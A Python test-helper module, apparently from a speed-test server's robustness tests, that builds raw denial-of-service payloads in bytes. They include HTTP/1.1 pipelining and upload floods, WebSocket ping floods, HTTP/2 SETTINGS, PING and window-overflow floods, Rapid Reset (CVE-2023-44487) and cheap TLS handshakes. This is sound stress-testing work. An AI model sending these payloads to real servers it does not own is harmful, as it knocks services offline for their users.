# SPDX-License-Identifier: Apache-2.0
"""Make the bytes that attackers of a speed-test server send; no socket here.

HTTP/1.1 (RFC 9112), WebSocket (RFC 6455), HTTP/2 (RFC 9113, its header blocks RFC 7541) and TLS.
"""

from __future__ import annotations

import ssl
import struct
from functools import cache

SMALL_BODY = 64 << 10
# HTTP/2: types of frames, and flags.
HEADERS, RST_STREAM, SETTINGS, PING, WINDOW_UPDATE, DATA = 1, 3, 4, 6, 8, 0
END_STREAM, END_HEADERS = 1, 4
CANCEL = 8
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
# Client streams have odd numbers; this is the last one of a connection.
LAST_STREAM = (1 << 31) - 1


def get(path: str) -> bytes:
    return f"GET {path} HTTP/1.1\r\nHost: a\r\n\r\n".encode()


def post(path: str, body: bytes) -> bytes:
    head = f"POST {path} HTTP/1.1\r\nHost: a\r\nContent-Length: {len(body)}\r\n\r\n"
    return head.encode() + body


@cache
def pipelined_gets(count: int, path: str = "/getIP") -> bytes:
    return get(path) * count


@cache
def small_uploads(count: int, size: int = SMALL_BODY) -> bytes:
    return post("/empty", bytes(size)) * count


def fresh_ids(first: int, count: int) -> bytes:
    """Return uploads of one byte, each with a new ID that a server has to remember."""
    return b"".join(post(f"/empty?id=a{number}", b"x") for number in range(first, first + count))


@cache
def telemetry(count: int, size: int = 1024) -> bytes:
    """Return results of a page, as long as a server has to store them."""
    return post("/results/telemetry", b'{"log":"' + b"a" * (size - 10) + b'"}') * count


@cache
def web_socket_upgrade(path: str = "/ndt/v7/upload") -> bytes:
    return (
        f"GET {path} HTTP/1.1\r\nHost: a\r\nConnection: Upgrade\r\nUpgrade: websocket\r\n"
        "Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\nSec-WebSocket-Version: 13\r\n"
        "Sec-WebSocket-Protocol: net.measurementlab.ndt.v7\r\n\r\n"
    ).encode()


@cache
def web_socket_pings(count: int) -> bytes:
    """Return pings with a payload of the longest type; the mask is zero, so nothing changes."""
    return (b"\x89\xfd" + bytes(4) + bytes(125)) * count


def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    """Return one frame of HTTP/2."""
    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", kind, flags, stream) + payload


def h2_opening() -> bytes:
    return PREFACE + frame(SETTINGS, 0, 0)


def h2_head(method: bytes, path: str) -> bytes:
    """Return a header block; `method` as an index of HPACK's static table, the rest literal."""
    return method + b"\x87\x01\x01a\x04" + bytes([len(path)]) + path.encode()


GET, POST = b"\x82", b"\x83"


def h2_streams(first: int, count: int) -> range:
    """Return the numbers of `count` streams of a client after `first` earlier ones."""
    start = 1 + 2 * first
    return range(start, min(start + 2 * count, LAST_STREAM), 2)


def h2_gets(first: int, count: int) -> bytes:
    head = h2_head(GET, "/getIP")
    ends = END_STREAM | END_HEADERS
    return b"".join(frame(HEADERS, ends, stream, head) for stream in h2_streams(first, count))


def h2_uploads(first: int, count: int, size: int = SMALL_BODY, with_ids: bool = False) -> bytes:
    """Return whole uploads; each frame of data has at most 16 KiB, which every server takes."""
    parts = []
    for stream in h2_streams(first, count):
        path = f"/empty?id=b{stream}" if with_ids else "/empty"
        parts.append(frame(HEADERS, END_HEADERS, stream, h2_head(POST, path)))
        for at in range(0, size, 1 << 14):
            piece = min(size - at, 1 << 14)
            last = END_STREAM if at + piece == size else 0
            parts.append(frame(DATA, last, stream, bytes(piece)))
    return b"".join(parts)


def h2_rapid_resets(first: int, count: int) -> bytes:
    """Return requests that are cancelled at once (CVE-2023-44487)."""
    head, cancel = h2_head(GET, "/nq/large"), struct.pack(">I", CANCEL)
    return b"".join(
        frame(HEADERS, END_STREAM | END_HEADERS, stream, head)
        + frame(RST_STREAM, 0, stream, cancel)
        for stream in h2_streams(first, count)
    )


@cache
def h2_pings(count: int) -> bytes:
    return frame(PING, 0, 0, bytes(8)) * count


@cache
def h2_settings(count: int) -> bytes:
    return frame(SETTINGS, 0, 0, struct.pack(">HI", 3, 100)) * count


@cache
def h2_window_updates(count: int) -> bytes:
    """Return updates of one byte each: 2 x 10^9 until the window overflows."""
    return frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 1)) * count


@cache
def client_hello() -> bytes:
    """Return the first message of a TLS handshake; it makes the server sign, and costs little."""
    context = ssl.create_default_context()
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    sent = ssl.MemoryBIO()
    try:
        context.wrap_bio(ssl.MemoryBIO(), sent, server_hostname="localhost").do_handshake()
    except ssl.SSLWantReadError:
        return sent.read()
    raise AssertionError("a handshake ended without a server")
